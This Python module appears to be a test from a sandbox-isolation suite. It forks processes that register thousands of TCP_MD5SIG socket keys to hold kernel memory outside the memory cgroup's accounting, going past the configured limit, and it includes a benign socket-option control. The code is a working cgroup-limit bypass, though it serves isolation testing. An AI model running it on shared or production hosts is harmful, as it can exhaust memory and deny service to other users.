"""Give sockets signing keys without end.

Technique: setsockopt(TCP_MD5SIG) stores a key for each address one names, up to net.core.optmem_max bytes per socket (20 KB
    before Linux 6.7, 128 KB since). Memory that a socket keeps for its options is charged to no memory cgroup, and the socket
    itself, which is, is small.
Success: the keys take twice the memory limit.
Stopped by: seccomp
Needs: memory_cgroup
"""
import socket
import struct

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
TCP_MD5SIG = 14
# The kernel's object has some 150 bytes and comes out of a slab of 192.
KEY_BYTES = 192
# Keys are searched one by one: many sockets with some keys are faster than few with many.
PROCESSES, SOCKETS, KEYS = 8, 1000, 300


def keys_of_one_socket(sockets):
    sockets.append(socket.socket())
    # struct tcp_md5sig: address of 128 bytes, flags, prefix length, key length, interface, key of 80 bytes.
    option = ctypes.create_string_buffer(struct.pack("=HH4s120xBBHi80s", socket.AF_INET, 0, bytes(4), 0, 0, 8, 0, b"12345678"))
    address = ctypes.c_uint32.from_buffer(option, 4)
    set_option, fd, pointer = libc.setsockopt, sockets[-1].fileno(), ctypes.byref(option)
    for number in range(KEYS):
        address.value = 0x0100_007F + (number << 16)
        if set_option(fd, socket.IPPROTO_TCP, TCP_MD5SIG, pointer, len(option)):
            if ctypes.get_errno() == errno.ENOMEM and number:
                return number
            raise OSError(ctypes.get_errno(), "TCP_MD5SIG")
    return KEYS


def hold(ready, go_on):
    sockets, count, refused = [], 0, 0
    try:
        while len(sockets) < SOCKETS and count * KEY_BYTES < 2 * LIMIT // PROCESSES:
            count += keys_of_one_socket(sockets)
    except OSError as error:
        refused = error.errno
    os.write(ready, struct.pack("qq", count, refused))
    os.read(go_on, 1)


def attack():
    ready, go_on = os.pipe(), os.pipe()
    for _ in range(PROCESSES):
        if os.fork() == 0:
            try:
                hold(ready[1], go_on[0])
            finally:
                os._exit(0)
    counts, refusals = zip(*(struct.unpack("qq", os.read(ready[0], 16)) for _ in range(PROCESSES)))
    if sum(counts) * KEY_BYTES > 3 * LIMIT // 2:
        return f"{sum(counts)} keys take {sum(counts) * KEY_BYTES >> 20} MB"
    if any(refusals):
        raise OSError(max(refusals), os.strerror(max(refusals)))


def twin():
    """Options that servers set."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        for name in ("TCP_NODELAY", "TCP_KEEPIDLE", "TCP_USER_TIMEOUT"):
            client.setsockopt(socket.IPPROTO_TCP, getattr(socket, name), 100)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
        client.sendall(b"hello")
        assert server.accept()[0].recv(10) == b"hello"
